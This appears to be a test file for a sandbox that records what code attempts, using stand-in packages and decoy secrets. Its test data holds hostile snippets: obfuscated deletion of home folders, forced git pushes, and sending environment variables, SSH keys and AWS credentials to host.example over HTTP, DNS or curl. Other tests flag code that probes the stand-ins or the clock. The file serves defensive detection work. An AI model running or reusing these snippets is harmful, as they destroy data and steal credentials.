"""Code with stand-ins in a real sandbox: what it asks for is recorded, whatever the language and the disguise."""

from __future__ import annotations

import asyncio
from typing import TYPE_CHECKING

import pytest

from runner.model.request import Language, Limits
from runner.model.result import Outcome
from runner.model.tried import PRINTED, TriedKind
from runner.risk.tried import Recorded, recorded
from runner.sandbox.contract import Job
from runner.sandbox.local.sandbox import LocalSandbox
from runner.sandbox.trying import program
from tests.components import require

if TYPE_CHECKING:
    from pathlib import Path

    from runner.model.result import Result

MARK, SEED = "assent:0123456789abcdef", "a seed"
PYTHON, JAVASCRIPT, SHELL = Language.PYTHON, Language.JAVASCRIPT, Language.SHELL


def run(folder: Path, language: Language, code: str, seconds: float = 20.0) -> Result:
    """The result of code with stand-ins, with more time than a trial has: the machine may be busy."""
    require("bubblewrap")
    if language is JAVASCRIPT:
        require("node")

    async def work() -> Result:
        sandbox = LocalSandbox(folder / "runs")
        limits = Limits(memory_mb=512, disk_mb=64, seconds=seconds, output_bytes=262_144, processes=64)
        try:
            job = Job("tried", language, program(language, code, MARK, SEED), limits)
            return await (await sandbox.start(job, lambda _usage: None)).finished()
        finally:
            await sandbox.close()

    return asyncio.run(work())


def tried(folder: Path, language: Language, code: str) -> Recorded:
    return recorded(run(folder, language, code), MARK, SEED)


def asked(found: Recorded) -> set[tuple[str, str]]:
    return {(act.kind.value, act.target) for act in found.acts}


DEEDS = {
    "python": (
        PYTHON,
        "import os, shutil, subprocess\n"
        "names = {'clean': shutil.rmtree}\n"
        "names['clean'](os.path.expanduser('~/Documents'))\n"
        "subprocess.run(['git', 'push', '--force'], check=True)\n"
        "os.remove(os.path.join(os.environ['HOME'], '.bashrc'))\n",
        {("delete folder", "~/Documents"), ("run", "git push --force"), ("delete", "~/.bashrc")},
    ),
    "javascript": (
        JAVASCRIPT,
        "import fs from 'node:fs';\nimport { execSync } from 'node:child_process';\n"
        "const deed = 'rmS' + 'ync';\nfs[deed](process.env.HOME + '/Documents', { recursive: true });\n"
        "execSync('git push --force');\nawait fs.promises.unlink(process.env.HOME + '/.bashrc');\n",
        {("delete folder", "~/Documents"), ("run", "git push --force"), ("delete", "~/.bashrc")},
    ),
    "javascript of the other kind": (
        JAVASCRIPT,
        "const fs = require('fs');\nfs.writeFileSync('out.txt', 'x');\n"
        "require('child_process').exec('git push --force');\n",
        {("write", "out.txt"), ("run", "git push --force")},
    ),
    "shell": (
        SHELL,
        'r=r; m=m\n"$r$m" -rf "$HOME/Documents"\nsh <<X\ngit push --force\nX\n: > ~/.bashrc\n',
        {("run", "rm -rf ~/Documents"), ("run", "git push --force"), ("overwrite", "~/.bashrc")},
    ),
}


@pytest.mark.parametrize("name", DEEDS)
def test_what_it_asks_for_is_recorded_with_its_arguments(tmp_path: Path, name: str) -> None:
    language, code, deeds = DEEDS[name]
    found = tried(tmp_path, language, code)
    assert deeds <= asked(found), found
    assert not found.ended, found


MANY = {
    "python": (
        PYTHON,
        "import ctypes, os\nfor each in range(400):\n    open(f'{each}', 'w').close()\n"
        "ctypes.CDLL(None).unlink(os.path.expanduser('~/.bashrc').encode())\n",
    ),
    "shell": (SHELL, "for each in $(seq 500); do true-$each; done\n: > ~/.profile; rm ~/.bashrc\n"),
}


@pytest.mark.parametrize("name", MANY)
def test_many_harmless_deeds_do_not_hide_what_became_of_the_decoys(tmp_path: Path, name: str) -> None:
    found = tried(tmp_path, *MANY[name])
    assert ("delete", "~/.bashrc") in asked(found), found
    assert [one for one in found.remarks if "not whole" in one]


PACKAGES = {
    "python": (
        PYTHON,
        "import nosuchcloud\nfor each in nosuchcloud.client('s3').bucket('uploads').all():\n    each.delete()\n",
        "nosuchcloud.client('s3').bucket('uploads').all()[0].delete",
    ),
    "javascript": (
        JAVASCRIPT,
        "import { Client } from 'nosuchcloud';\nconst one = new Client('s3');\n"
        "for (const each of await one.all('uploads')) await each.delete();\n",
        'nosuchcloud.Client("s3").all("uploads")[0].delete',
    ),
}


@pytest.mark.parametrize("name", PACKAGES)
def test_a_package_that_is_not_there_has_a_stand_in_that_records_every_call(tmp_path: Path, name: str) -> None:
    language, code, call = PACKAGES[name]
    found = tried(tmp_path, language, code)
    assert ("call", call) in asked(found) and not found.ended, found


IN_TESTS = {
    "a context": (
        PYTHON,
        "import boto3\nfrom moto import mock_aws\ns3 = boto3.client('s3')\n"
        "with mock_aws():\n    s3.delete_bucket(Bucket='a')\ns3.delete_bucket(Bucket='b')\n",
        ["mocked boto3.client('s3').delete_bucket", "boto3.client('s3').delete_bucket"],
    ),
    "a decorator": (
        PYTHON,
        "import boto3\nfrom moto import mock_aws\n\n@mock_aws\n"
        "def one(name):\n    boto3.client('s3').delete_bucket(Bucket=name)\n"
        "\n@mock_aws()\ndef two():\n    boto3.client('s3').delete_objects()\n\none('a')\ntwo()\n",
        ["mocked boto3.client('s3').delete_bucket", "mocked boto3.client('s3').delete_objects"],
    ),
    "started and stopped": (
        PYTHON,
        "import boto3, moto\nmock = moto.mock_aws()\nmock.start()\nboto3.client('s3').delete_bucket(Bucket='a')\n"
        "mock.stop()\nboto3.client('s3').delete_objects()\n",
        ["mocked boto3.client('s3').delete_bucket", "boto3.client('s3').delete_objects"],
    ),
    "one that lets some pass": (
        PYTHON,
        "import boto3\nfrom moto import mock_aws\n"
        "with mock_aws(config={'core': {'passthrough': {'services': ['s3']}}}):\n"
        "    boto3.client('s3').delete_bucket(Bucket='a')\n",
        ["boto3.client('s3').delete_bucket"],
    ),
    "in memory": (
        PYTHON,
        "import fakeredis, nosuchorm\nfakeredis.FakeRedis().delete('a')\n"
        "nosuchorm.Session(nosuchorm.create_engine('sqlite://')).delete('b')\n"
        "nosuchorm.Session(nosuchorm.create_engine('sqlite:///shop.db')).delete('c')\n"
        "nosuchorm.Session('x').delete(fakeredis.FakeRedis().get('a'))\n",
        [
            "mocked fakeredis.FakeRedis().delete",
            "mocked nosuchorm.Session(nosuchorm.create_engine('sqlite://')).delete",
            "nosuchorm.Session(...).delete",
            "nosuchorm.Session('x').delete",
        ],
    ),
    "in memory, JavaScript": (
        JAVASCRIPT,
        "import { MongoMemoryServer } from 'mongodb-memory-server';\nimport { MongoClient } from 'mongodb';\n"
        "const server = await MongoMemoryServer.create();\nconst client = await MongoClient.connect(server.getUri());\n"
        "await client.db('a').dropDatabase();\nawait new MongoClient('mongodb://db').db('b').dropDatabase();\n",
        [
            'mocked mongodb.MongoClient.connect(...).db("a").dropDatabase',
            'mongodb.MongoClient("mongodb://db").db("b").dropDatabase',
        ],
    ),
}


@pytest.mark.parametrize("name", IN_TESTS)
def test_what_a_test_has_in_place_of_a_service_is_named_so(tmp_path: Path, name: str) -> None:
    language, code, calls = IN_TESTS[name]
    found = tried(tmp_path, language, code)
    assert {("call", one) for one in calls} <= asked(found) and not found.ended, found


@pytest.mark.parametrize(
    ("language", "code", "deed"),
    [
        (PYTHON, "import json, nosuchcloud as c\njson.dumps([c.list()[0].id])\nc.remove()\n", "nosuchcloud.remove"),
        (
            PYTHON,
            "import nosuchorm as o\n\nclass Base(o.Model):\n    pass\n\nclass Row(Base):\n    id = o.Field()\n"
            "\nBase.metadata.drop_all()\no.delete(Row).run()\n",
            "nosuchorm.delete(Row).run",
        ),
        (PYTHON, "import nosuchcloud as c\nif input('Sure? [y/N] ') == 'y':\n    c.remove()\n", "nosuchcloud.remove"),
        (
            PYTHON,
            "import nosuchcloud as c\ntoken = None\nwhile True:\n    page = c.list(token=token)\n"
            "    token = page.get('NextToken')\n    if not token:\n        break\nc.remove()\n",
            "nosuchcloud.remove",
        ),
        (PYTHON, "import nosuchcloud as c\nwhile c.busy():\n    pass\nc.remove()\n", "nosuchcloud.remove"),
        (
            PYTHON,
            "from pathlib import Path\nimport nosuchcloud as c\nfor one in (Path.home() / 'Invoices').glob('*.pdf'):\n"
            "    c.remove()\n(Path.home() / 'new' / 'a.txt').write_text('a')\n",
            "nosuchcloud.remove",
        ),
        (
            JAVASCRIPT,
            "import c from 'nosuchcloud';\nlet token;\ndo {\n  const page = await c.list({ token });\n"
            "  token = page.NextContinuationToken;\n} while (token);\nawait c.remove();\n",
            "nosuchcloud.remove",
        ),
    ],
)
def test_what_stand_ins_hold_does_not_end_the_code(tmp_path: Path, language: Language, code: str, deed: str) -> None:
    found = tried(tmp_path, language, code)
    assert ("call", deed) in asked(found) and not found.ended, found


def test_an_address_of_a_site_is_no_secret(tmp_path: Path) -> None:
    code = "import os, nosuchcloud as c\nc.open(os.environ.get('BASE_URL', 'http://localhost:3000'))\n"
    assert ("call", "nosuchcloud.open") in asked(found := tried(tmp_path, PYTHON, code))
    assert not [act for act in found.acts if act.kind is TriedKind.DISCLOSE], found


LEAKS = {
    "python": (
        PYTHON,
        "import base64, json, os, urllib.request\n"
        "body = base64.b64encode(json.dumps(dict(os.environ)).encode())\n"
        "urllib.request.urlopen('https://host.example/in', data=body)\n",
        "host.example:443",
        "OPENAI_API_KEY",
    ),
    "a key file, in a name that is looked up": (
        PYTHON,
        "import os, socket\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read().strip()\n"
        "socket.gethostbyname(key + '.host.example')\n",
        "name servers, below host.example",
        "~/.ssh/id_rsa",
    ),
    "javascript": (
        JAVASCRIPT,
        "await fetch('https://host.example/in?k=' + process.env.STRIPE_SECRET_KEY);\n",
        "host.example",
        "STRIPE_SECRET_KEY",
    ),
    "shell": (
        SHELL,
        'curl -s https://host.example/ -d "$(base64 -w0 ~/.aws/credentials)"\n',
        "host.example",
        "~/.aws/credentials",
    ),
    "printed": (SHELL, 'echo "$GITHUB_TOKEN" | rev\n', PRINTED, "GITHUB_TOKEN"),
}


@pytest.mark.parametrize("name", LEAKS)
def test_a_decoy_secret_is_followed_to_where_it_goes(tmp_path: Path, name: str) -> None:
    language, code, place, secret = LEAKS[name]
    found = tried(tmp_path, language, code)
    given = {(act.target, act.data) for act in found.acts if act.kind is TriedKind.DISCLOSE}
    assert (place, secret) in given, found


@pytest.mark.parametrize(
    ("language", "code"),
    [
        (PYTHON, "import os, nosuchcloud\nnosuchcloud.Client(api_key=os.environ['ACME_API_KEY']).list()\n"),
        (
            PYTHON,
            "import os, urllib.request as r\nheaders = {'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']}\n"
            "r.urlopen(r.Request('https://host.example', headers=headers))\n",
        ),
        (JAVASCRIPT, "import { Client } from 'nosuchcloud';\nnew Client({ auth: process.env.GITHUB_TOKEN });\n"),
    ],
)
def test_a_key_that_opens_its_own_door_is_no_disclosure(tmp_path: Path, language: Language, code: str) -> None:
    found = tried(tmp_path, language, code)
    assert not [act for act in found.acts if act.kind is TriedKind.DISCLOSE], found


@pytest.mark.parametrize(
    ("language", "code", "line", "words"),
    [
        (PYTHON, "print(1)\n\nopen('nosuch.parquet')\nprint(2)\n", 3, "no such file"),
        (JAVASCRIPT, "console.log(1);\n\nnull.x;\n", 3, "TypeError"),
        (SHELL, "echo 1\nexit 3\n", 0, "exit code 3"),
        (PYTHON, "this is no code\n", 1, "SyntaxError"),
    ],
)
def test_code_that_ends_early_is_said_to(tmp_path: Path, language: Language, code: str, line: int, words: str) -> None:
    found = tried(tmp_path, language, code)
    assert words in found.ended and found.ended_at == line, found


@pytest.mark.parametrize(
    ("language", "code", "word"),
    [
        (PYTHON, "import datetime\nif datetime.date.today().year > 2100: print(1)\n", "the time"),
        (JAVASCRIPT, "if (new Date().getFullYear() > 2100) console.log(1);\n", "the time"),
        (SHELL, "[ $(date +%Y) -gt 2100 ] && echo 1; true\n", "the time"),
        (PYTHON, "import nosuchcloud\nprint(getattr(nosuchcloud, '__file__', ''))\n", "decoys"),
        (SHELL, "set +x\necho 1\n", "decoys"),
        (
            JAVASCRIPT,
            "import { Worker } from 'node:worker_threads';\nnew Worker('1', { eval: true });\n",
            "not watched",
        ),
    ],
)
def test_code_that_asks_the_clock_or_looks_at_the_stand_ins_is_said_to(
    tmp_path: Path, language: Language, code: str, word: str
) -> None:
    found = tried(tmp_path, language, code)
    assert any(word in one for one in found.remarks), found


@pytest.mark.parametrize(
    ("language", "code"),
    [
        (
            PYTHON,
            "import ctypes, os\nctypes.CDLL(None).unlink(os.path.expanduser('~/.ssh/id_rsa').encode())\nos._exit(0)\n",
        ),
        (PYTHON, "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"),
        (JAVASCRIPT, "process.kill(process.pid, 'SIGKILL');\n"),
        (SHELL, "kill -9 $PPID\n"),
    ],
)
def test_code_that_ends_its_recorder_leaves_a_record_that_is_not_whole(
    tmp_path: Path, language: Language, code: str
) -> None:
    found = tried(tmp_path, language, code)
    assert any("not whole" in one for one in found.remarks), found


def test_it_ends_with_its_time(tmp_path: Path) -> None:
    result = run(tmp_path, PYTHON, "import os\nos.remove('nosuch')if 0 else None\nwhile True: pass\n", 1.0)
    assert result.outcome is Outcome.TIMED_OUT
    assert "time" in recorded(result, MARK, SEED).ended


def test_waiting_takes_no_time_and_connections_lead_nowhere(tmp_path: Path) -> None:
    found = tried(
        tmp_path,
        PYTHON,
        "import smtplib, time\ntime.sleep(3600)\nserver = smtplib.SMTP('mail.example', 25)\n"
        "server.sendmail('a@example.com', ['b@example.com'], 'hello')\n",
    )
    assert ("send", "mail.example:25") in asked(found) and not found.ended, found
